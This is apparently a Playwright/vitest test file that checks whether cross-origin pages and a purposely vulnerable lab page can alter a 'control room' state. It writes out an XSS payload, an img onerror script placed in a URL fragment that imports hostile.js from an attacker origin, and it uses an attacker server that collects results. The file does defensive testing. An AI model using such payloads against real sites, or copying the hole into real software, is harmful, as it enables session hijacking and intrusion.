// No page of another origin changes anything in the control room, in a real Chromium: not at once, not by a click, and not
// by way of the page with the hole.
import { hasVisited } from '@scale-out-lab/bench/browser/lab-page';
import { until } from '@scale-out-lab/launcher/testing/until';
import type { BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { type Attacker, startAttacker } from '../support/browser/attacker.js';
import { type Control, it } from '../support/browser/page-test.js';

let attacker: Attacker;
beforeAll(async () => {
  attacker = await startAttacker();
});
afterAll(() => attacker?.stop());

/** All that a request to the control room could change. Of a part that is slow to answer it does not know all. */
async function readControlRoom(control: Control) {
  let state = await control.state();
  await until(async () => {
    state = await control.state();
    return [state.redis, ...state.instances].every((part) => part?.isAlive);
  });
  const { instances, redis, busy } = state;
  const listening = await control.listen();
  await until(() => listening.heard.length > 0);
  const [snapshot] = listening.heard;
  await listening.cut();
  return {
    instances: instances.map(({ id, startedAt, keys }) => ({ id, startedAt, keys })),
    redis: redis?.isPersistent,
    busy,
    runs: (await control.ask<{ runs: unknown }>('GET', 'runs')).body.runs,
    incidents:
      snapshot?.name === 'snapshot'
        ? snapshot.data.incidents.filter(({ isAsked }) => isAsked)
        : 'no snapshot',
  };
}

/**
 * The outcomes that the script at `address` reports when the page opens and at a click, in the browser of a user of the API.
 * The user is still logged in afterwards.
 */
async function visit(browser: BrowserContext, lab: string, address: string, { clicks = false } = {}) {
  const api = `${lab}/api/session-redis`;
  await browser.request.post(`${api}/login`, { data: { username: 'vu-0001', password: 'demo' } });
  // Otherwise the lab's own page plays its introduction with real requests.
  await browser.addInitScript(hasVisited);
  const changes: number[] = [];
  browser.on('response', (response) => {
    const isChange = response.url().startsWith(`${lab}/lab/`) && response.request().method() !== 'GET';
    if (isChange) changes.push(response.status());
  });
  const tab = await browser.newPage();
  await tab.goto(address);
  const loot = [...(await attacker.collect(1))];
  if (clicks) {
    // Windows that the first attack opened lie before it.
    await tab.bringToFront();
    await tab.getByRole('button', { name: 'A prize!' }).click();
    loot.push(...(await attacker.collect(1)));
  }
  expect((await browser.request.get(`${api}/me`)).status()).toBe(200);
  // They arrived, and were refused.
  expect(new Set(changes)).toEqual(new Set([403]));
  return loot.map(({ body }) => JSON.parse(body) as { when: string; outcomes: Record<string, string> });
}

describe.each([
  ['another site', 'otherSite'],
  ['another port of this machine', 'sameSite'],
] as const)('a page of %s', (_where, origin) => {
  it('changes nothing when it opens, and nothing at a click', async ({ lab, control, openContext }) => {
    const before = await readControlRoom(control);
    const target = encodeURIComponent(lab.url);
    const attacks = await visit(
      await openContext(),
      lab.url,
      `${attacker[origin]}/hostile?target=${target}`,
      {
        clicks: true,
      },
    );
    expect(attacks.map(({ when }) => when)).toEqual(['opened', 'clicked']);
    for (const { outcomes } of attacks) {
      expect(outcomes).toMatchObject({
        'a request': 'TypeError',
        'a request with a preflight': 'TypeError',
        'a request with JSON': 'TypeError',
        'what the control room holds': 'TypeError',
      });
    }
    expect(await readControlRoom(control)).toEqual(before);
  });
});

describe('a link to the page with the hole', () => {
  // A hostile page would send a user there without a click.
  const greet = (base: string, script: string) => {
    const markup = `<img src="" onerror="${script}">`;
    const link = `${base}/storage/#greeting=${encodeURIComponent(markup)}`;
    return `${attacker.otherSite}/link?target=${encodeURIComponent(link)}`;
  };

  it.for(['url', 'storageUrl'] as const)(
    'at its %s runs a script that changes nothing in the control room',
    async (base, { lab, control, openContext }) => {
      const before = await readControlRoom(control);
      const script = `import('${attacker.otherSite}/hostile.js').then(({ attack }) => attack('${lab.url}', 'injected'))`;
      const [injected] = await visit(await openContext(), lab.url, greet(lab.cluster[base], script));
      expect(injected?.outcomes).toMatchObject({
        'a request to its own origin': '404',
        'a run at its own origin': '404',
        'a request with a preflight': 'TypeError',
        'what the control room holds': 'TypeError',
      });
      expect(await readControlRoom(control)).toEqual(before);
    },
  );
});
